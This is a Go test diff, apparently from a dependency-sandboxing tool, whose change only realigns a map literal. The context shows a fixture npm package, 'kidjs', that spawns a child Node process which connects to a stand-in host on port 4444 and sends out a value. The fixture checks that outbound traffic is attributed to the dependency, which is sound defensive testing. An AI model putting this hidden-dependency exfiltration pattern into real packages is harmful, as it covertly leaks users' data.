@@ -136,9 +136,9 @@ func TestNodeEvalChildAttribution(t *testing.T) {
 		" const s = require('net').connect(4444, '192.0.2.12', () => s.end('v=' + v)); s.on('error', () => {}); });"
 	dir := t.TempDir()
 	writeBundle(t, dir, map[string]string{
-		"package.json":                     `{"name":"fn","version":"1.0.0","dependencies":{"kidjs":"1.0.0"}}`,
-		"index.js":                         "const kid = require('kidjs');\nexports.handler = async () => kid.work();\n",
-		"node_modules/kidjs/package.json":  `{"name":"kidjs","version":"1.0.0"}`,
+		"package.json":                    `{"name":"fn","version":"1.0.0","dependencies":{"kidjs":"1.0.0"}}`,
+		"index.js":                        "const kid = require('kidjs');\nexports.handler = async () => kid.work();\n",
+		"node_modules/kidjs/package.json": `{"name":"kidjs","version":"1.0.0"}`,
 		"node_modules/kidjs/index.js": "// TEST FIXTURE: runs only inside depbox's sandbox.\n" +
 			"const { execFileSync } = require('child_process');\n" +
 			"exports.work = () => { execFileSync(process.execPath, ['-e', " + fmt.Sprintf("%q", child) + "], { timeout: 10000 }); return 1; };\n",
